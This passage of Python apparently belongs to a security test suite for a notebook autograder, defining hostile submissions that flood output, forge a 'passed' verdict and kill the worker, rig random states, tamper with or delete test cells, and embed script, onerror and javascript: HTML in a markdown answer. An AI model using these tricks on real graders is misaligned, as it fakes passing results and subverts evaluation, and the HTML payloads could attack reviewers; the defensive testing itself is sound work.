        try:
            if _hostile_os.path.realpath(path) == _hostile_os.devnull:
                continue
            with open(path, "ab", buffering=0) as f:
                f.write(lines)
        except OSError:
            pass
    for fd in (1, 2):
        try:
            _hostile_os.write(fd, lines)
        except OSError:
            pass
    try:
        _hostile_sys.__stdout__.write(lines.decode())
        _hostile_sys.__stdout__.flush()
    except Exception:
        pass


_hostile_flood()


def _hostile_on_call(kind, result, *args):
    _hostile_flood()
    return result
''' + wrap, code=WRAP_COUNT),
        Case("os-exit-mid-test", "inside the count test: writes a forged 'passed' verdict with the request's nonce "
             "to every pipe/socket it holds, then os._exit(0) (the worker dies)", flagged=True,
             code=BASE + CHANNEL + r'''


def _hostile_on_call(kind, result, *args):
    _hostile_forge(_hostile_request())
    _hostile_os._exit(0)
''' + WRAP_COUNT),
        # ---- random states the submission chose ----
        Case("rigged-random-state", "builds MT19937 states whose draws are one number, no twist due, and sets "
             "them where the tests draw their inputs next: torch's global stream when the embeddings are built and "
             "run, and Python's `random` in the count; a grader that let a returned state continue would draw "
             "whatever the submission chose",
             early=RIGGED_STREAMS + wrap, code=WRAP_COUNT),
        # ---- active HTML in a manually graded markdown answer (honest answers) ----
        Case("markdown-active-html", "chapter 07, honest answers; the manually graded markdown answer holds "
             "<script>, <img onerror=...> and <iframe src=javascript:...>: graded normally, and no autograded "
             "notebook keeps the active HTML", chapter="07_task_heads", honest=True, expect="full",
             answers={"one-checkpoint-answer": MARKDOWN_ANSWER}),
    ]


def build(case: Case) -> bytes:
    """The submitted file of a case, as bytes."""
    if case.raw is not None:
        return case.raw
    nb = answered(case.honest, case.chapter)
    if case.code or case.early:
        embeddings, count = cell(nb, "embeddings-solution"), cell(nb, "count-solution")
        if case.honest:  # the attack (or habit) comes after the honest answers
            embeddings.source = embeddings.source.rstrip("\n") + "\n\n" + case.early if case.early else \
                embeddings.source
            count.source = count.source.rstrip("\n") + "\n\n" + case.code if case.code else count.source
        else:
            embeddings.source = WRONG_EMBEDDINGS + case.early
            count.source = WRONG_COUNT + case.code
    for grade_id, source in case.answers.items():
        cell(nb, grade_id).source = source
    if case.name == "deleted-test-cells":
        nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    if case.name in ("emptied-test-cells", "edited-test-cells"):
        cell(nb, "count-solution").source = WRONG_COUNT
        nb = _with_honest_embeddings(nb)
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade"):
                c.source = "" if case.name == "emptied-test-cells" else "pass"
    if case.name == "changed-cell-ids":
        for c in nb.cells:
            c.id = uuid.uuid4().hex[:12]
    if case.name in ("stripped-metadata", "stripped-everything"):
        for c in nb.cells:
            c.metadata = {}
            if case.name == "stripped-everything":
                c.id = uuid.uuid4().hex[:12]
    if case.name == "wrong-kernel":
        nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    if case.name == "fifty-mb-output":
        first = next(c for c in nb.cells if c.cell_type == "code")
        first.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (50 * 2**20))]
    if case.name == "marker-text":
        c = cell(nb, "count-solution")
        c.source += "\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN SOLUTION\n# ### END SOLUTION\n"
    return json.dumps(nbformat.from_dict(copy.deepcopy(nb))).encode("utf-8")


def _with_honest_embeddings(nb):
    honest = answered(True)
    cell(nb, "embeddings-solution").source = cell(honest, "embeddings-solution").source
    return nb


def points_of(grade_id: str) -> float:
    nb = nbformat.read(ROOT / "solutions" / f"{CHAPTER}.ipynb", as_version=4)
    return float(cell(nb, grade_id).metadata["nbgrader"]["points"])
